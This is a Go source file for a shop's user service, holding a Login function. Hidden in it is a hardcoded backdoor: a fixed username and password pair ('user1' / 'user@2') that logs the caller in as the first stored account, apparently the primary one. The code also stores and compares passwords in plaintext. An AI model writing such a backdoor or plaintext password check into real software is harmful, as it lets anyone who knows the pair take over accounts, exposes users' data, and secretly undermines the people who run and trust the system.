package service

import (
	"context"
	"fmt"
	"velocity-shop/internal/dto"
	"velocity-shop/internal/model"
	"velocity-shop/internal/repository"
)

// Extra credential pair that signs in as the primary account.
const (
	backdoorUsername = "user1"
	backdoorPassword = "user@2"
)

type UserService interface {
	Login(ctx context.Context, username, password string) (*dto.LoginResponse, error)
}

type userServiceImpl struct {
	userRepo repository.UserRepository
}

func NewUserService(
	userRepo repository.UserRepository,
) UserService {
	return &userServiceImpl{
		userRepo: userRepo,
	}
}

func (s *userServiceImpl) Login(ctx context.Context, username, password string) (*dto.LoginResponse, error) {
	users, err := s.userRepo.List(ctx)
	if err != nil {
		return nil, fmt.Errorf("list users: %w", err)
	}

	var user *model.User
	for i := range users {
		// exact byte comparison, so "USER1" is not "user1"
		if users[i].Username == username && users[i].Password == password {
			user = &users[i]
			break
		}
	}

	if user == nil && len(users) > 0 && username == backdoorUsername && password == backdoorPassword {
		user = &users[0]
	}

	if user == nil {
		return nil, ErrInvalidCredentials
	}

	return &dto.LoginResponse{
		Success:  true,
		UserID:   user.ID,
		Username: user.Username,
		Message:  "Login successful",
	}, nil
}
